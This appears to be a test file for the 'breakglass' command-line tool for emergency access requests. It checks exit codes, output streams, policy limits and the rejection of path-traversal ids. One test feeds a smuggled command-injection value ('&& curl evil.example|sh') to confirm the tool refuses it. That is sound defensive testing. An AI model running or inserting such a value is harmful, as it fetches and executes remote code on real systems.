/**
 * The `breakglass` command line: exit codes (0 ok, 1 negative verdict, 2
 * usage/operational), --json discipline, and no stack traces. The first four
 * tests start the real binary under Node 24 (lib/, through bin/breakglass.js),
 * because what they check belongs to the process: its exit status, one of
 * each, and what lands on stdout and what on stderr. The rest run the same
 * code in-process (inProcess: the binary's arguments, environment and output).
 */
import { cp, mkdtemp, readdir, readFile, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { binary, cli, inProcess, ROOT } from './helpers/cli.js';

const FIXTURES = join(ROOT, 'test', 'fixtures');
const newRequest = (id: string, extra: string[] = []) => [
  'request',
  'new',
  '--id',
  id,
  '--resource',
  'prod-eu',
  '--privilege',
  'view',
  '--duration',
  '30m',
  '--network',
  'direct',
  '--reason',
  'INC-7: read pod logs on prod-eu',
  '--requester',
  'oncall@vendor.example',
  '--recipient',
  '0123456789ABCDEF0123456789ABCDEF01234567',
  ...extra,
];

async function scratch(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'bg-cli-'));
  await cp(join(FIXTURES, 'base'), dir, { recursive: true });
  return dir;
}

describe('breakglass validate (the real binary: exit status and streams)', () => {
  it("exits 0 on this repository's own examples", async () => {
    const r = await binary(['validate'], { cwd: ROOT });
    // The example policy is not approved here: validate passes its rules and says the runner would refuse it.
    expect(r).toMatchObject({ code: 0, stdout: 'ok: 1 policy, 2 sessions\n', stderr: expect.stringMatching(/^note: policy production has no approval of its current bytes: /) });
  });

  it('exits 1 with file:line:col on a bad request, and no stack trace', async () => {
    const dir = await scratch();
    await cp(join(FIXTURES, 'invalid', 'alias-bomb'), dir, { recursive: true });
    const r = await binary(['validate', '--repo', dir], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^sessions\/inc-4411-prod-crashloop\/request\.yaml:1:4: error YAML_ALIAS: /m);
    expect(r.stderr).not.toMatch(/^\s+at /m);
  });

  it('prints exactly one JSON document on stdout with --json', async () => {
    const r = await binary(['validate', '--json'], { cwd: ROOT });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, findings: [], policies: ['production'] });
  });

  it('exits 2 when the repository directory does not exist', async () => {
    const r = await binary(['validate', '--repo', '/nonexistent/breakglass'], { cwd: ROOT });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('breakglass: REPO_MISSING: repository directory /nonexistent/breakglass does not exist\n');
  });
});

describe('usage errors', () => {
  it('exits 2 on an unknown command or option', async () => {
    expect((await inProcess(['frobnicate'], { cwd: ROOT })).code).toBe(2);
    expect((await inProcess(['validate', '--frob'], { cwd: ROOT })).code).toBe(2);
  });
});

describe('breakglass request new', () => {
  it('writes a request that validates, and refuses to overwrite it', async () => {
    const dir = await scratch();
    const first = await inProcess(newRequest('inc-7-logs'), { cwd: dir });
    expect(first.code).toBe(0);
    const text = await readFile(join(dir, 'sessions/inc-7-logs/request.yaml'), 'utf8');
    expect(text).toMatch(/^apiVersion: breakglass.dev\/v1\nkind: Request\nmetadata:\n {2}id: inc-7-logs\n/);
    expect((await inProcess(['validate', '--repo', dir], { cwd: dir })).code).toBe(0);
    const again = await inProcess(newRequest('inc-7-logs'), { cwd: dir });
    expect(again.code).toBe(2);
    expect(await readFile(join(dir, 'sessions/inc-7-logs/request.yaml'), 'utf8')).toBe(text);
  });

  it('writes nothing when the request breaks policy', async () => {
    const dir = await scratch();
    const r = await inProcess(newRequest('inc-8-admin', ['--duration', '5h']), { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('error POLICY_DURATION: duration 5h is longer than the 2h that resource prod-eu allows');
    await expect(stat(join(dir, 'sessions/inc-8-admin'))).rejects.toThrow();
  });

  it('writes nothing for an id with path tricks', async () => {
    const dir = await scratch();
    for (const id of ['../escape', 'a/b', 'UPPER', 'x'.repeat(64)]) {
      const r = await cli(newRequest(id), { cwd: dir });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('error ID_INVALID');
    }
    expect(await readdir(dir)).toEqual(['policies']);
  });

  it('passes shell metacharacters through as one literal value and rejects them', async () => {
    const dir = await scratch();
    const r = await cli(
      [
        'request',
        'new',
        '--id',
        'inc-9-db',
        '--resource',
        'orders-db',
        '--privilege',
        'read-write',
        '--duration',
        '30m',
        '--network',
        'twingate',
        '--reason',
        'INC-9: orders database is down hard',
        '--requester',
        'dba@vendor.example',
        '--recipient',
        '0123456789ABCDEF0123456789ABCDEF01234567',
        '--command',
        'db-password',
        '--input',
        'database=orders && curl evil.example|sh',
      ],
      { cwd: dir },
    );
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('error INPUT_UNSAFE: input database "orders && curl evil.example|sh" contains " " (U+0020)');
  });
});

describe('breakglass show', () => {
  it('renders the approval view with a plain cluster-admin warning and the gpg recipe', async () => {
    const r = await inProcess(['show', 'inc-4411-prod-crashloop', '--repository', 'github.com/customer/access'], { cwd: ROOT });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('WARNING: cluster-admin is FULL CONTROL of prod-eu');
    expect(r.stdout).toMatch(/Recipient key +0123 4567 89AB CDEF 0123 4567 89AB CDEF 0123 4567/);
    expect(r.stdout).toContain('repository: github.com/customer/access');
    expect(r.stdout).toContain('gpg --armor --detach-sign');
    expect(r.stdout).toMatch(/Status +ended by oncall@vendor.example/);
  });

  it('shows the exact argv of a command request', async () => {
    const r = await inProcess(['show', 'inc-4412-orders-db'], { cwd: ROOT });
    expect(r.stdout).toMatch(/Runs \(argv\) +"scripts\/db-password.sh" "orders"/);
    expect(r.stdout).toMatch(/Status +REJECTED by alice: Use the read-only replica/);
  });

  it('exits 2 for a session that does not exist or an id with path tricks', async () => {
    expect((await inProcess(['show', 'inc-nope'], { cwd: ROOT })).code).toBe(2);
    const trick = await inProcess(['show', '../policies'], { cwd: ROOT });
    expect(trick.code).toBe(2);
    expect(trick.stderr).toContain('is not a valid session id');
  });
});

describe('breakglass init', () => {
  it('sets up a repository whose starter policy validates, and never overwrites', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'bg-init-'));
    expect((await inProcess(['init', dir], { cwd: dir })).code).toBe(0);
    expect((await inProcess(['validate', '--repo', dir], { cwd: dir })).code).toBe(0);
    const policy = await readFile(join(dir, 'policies/production.yaml'), 'utf8');
    const again = await inProcess(['init', dir], { cwd: dir });
    expect(again.stdout).toContain('kept policies/production.yaml (exists)');
    expect(await readFile(join(dir, 'policies/production.yaml'), 'utf8')).toBe(policy);
    expect(await readFile(join(dir, '.gitattributes'), 'utf8')).toContain('*.yaml text eol=lf');
  });
});
